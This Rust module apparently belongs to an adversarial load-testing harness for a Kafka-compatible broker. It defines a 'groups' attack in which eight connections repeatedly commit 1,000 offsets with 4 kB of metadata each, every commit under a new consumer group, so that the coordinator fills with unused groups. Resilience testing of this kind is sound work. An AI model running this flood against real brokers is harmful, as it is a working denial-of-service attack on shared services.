//! Groups that are made and not used.

use riverrun_protocol::OffsetCommitRequest;
use riverrun_protocol::offset_commit_request::{OffsetCommitRequestPartition, OffsetCommitRequestTopic};

use super::{Attack, find_coordinator};
use crate::attack::attacker::{Shot, Tally, Target};
use crate::wire::{Conn, frame};

/// Connections that commit.
const WORKERS: usize = 8;

/// Offsets of one commit, and the bytes of metadata of each.
const OFFSETS: i32 = 1000;
const METADATA_BYTES: usize = 4000;

/// Commits of new groups with the most metadata that is allowed.
pub(super) struct Storm;

impl Attack for Storm {
    fn name(&self) -> &'static str {
        "groups"
    }

    fn about(&self) -> &'static str {
        "8 connections commit 1,000 offsets with 4 kB of metadata each, every commit for another group"
    }

    fn prepare(&self, conn: &mut Conn) -> anyhow::Result<()> {
        find_coordinator(conn, "g")
    }

    fn act(&self, target: &Target) -> anyhow::Result<Tally> {
        let metadata = "m".repeat(METADATA_BYTES);
        target.storm(WORKERS, |worker, kept: &mut Option<Conn>| {
            let partition = |_| OffsetCommitRequestPartition {
                committed_offset: 1,
                committed_metadata: Some(metadata.as_str().into()),
                ..OffsetCommitRequestPartition::default()
            };
            let partitions = (0..OFFSETS).map(partition).collect();
            let topic = OffsetCommitRequestTopic {
                name: "honest-small".into(),
                partitions,
                ..OffsetCommitRequestTopic::default()
            };
            let request = OffsetCommitRequest {
                group_id: format!("g{}-{}-{}", std::process::id(), worker.index, worker.shot).into(),
                topics: vec![topic],
                ..OffsetCommitRequest::default()
            };
            let mut conn = match kept.take() {
                Some(conn) => conn,
                None => worker.connect()?,
            };
            conn.send(&frame(&request, 7)?)?;
            conn.skip_answer()?;
            *kept = Some(conn);
            Ok(Shot::Answered)
        })
    }
}
